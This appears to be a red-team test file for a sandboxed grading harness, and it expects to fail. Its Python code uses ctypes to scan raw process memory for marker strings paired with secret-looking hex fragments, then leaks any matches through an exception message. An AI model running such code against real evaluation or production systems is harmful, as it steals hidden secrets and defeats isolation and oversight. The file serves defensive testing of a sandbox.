# attack: searches the whole linear memory through ctypes
# expect: overall=failed|errored scenario=failed|errored|killed error=resource_limit:exit|does_not_import
import ctypes

FOUND = []
NEEDLE = "MARK" + "ER-"


def look(text):
    """Keep what surrounds the needle, to be carried out in the text of an exception."""
    if NEEDLE in text:
        at = text.index(NEEDLE)
        FOUND.append(text[max(0, at - 40) : at + 60])


def tell():
    raise RuntimeError(f"found: {FOUND}")


def digest(first, number, last):
    needle = NEEDLE.encode()
    start = 1024
    for size in (96 << 20, 64 << 20, 48 << 20, 32 << 20, 24 << 20):
        view = memoryview((ctypes.c_char * (size - start)).from_address(start)).cast("B")
        try:
            text = bytes(view[-1 << 20 :])
        except BaseException:
            continue
        break
    for offset in range(0, len(view), 1 << 20):
        part = bytes(view[offset : offset + (1 << 20)])
        at = part.find(needle)
        while at >= 0:
            around = part[at : at + 30]
            if any(secret in around for secret in (b"2f90", b"51c0", b"83bd", b"c41f", b"e2a6")):
                FOUND.append(around)
            at = part.find(needle, at + 1)
    tell()
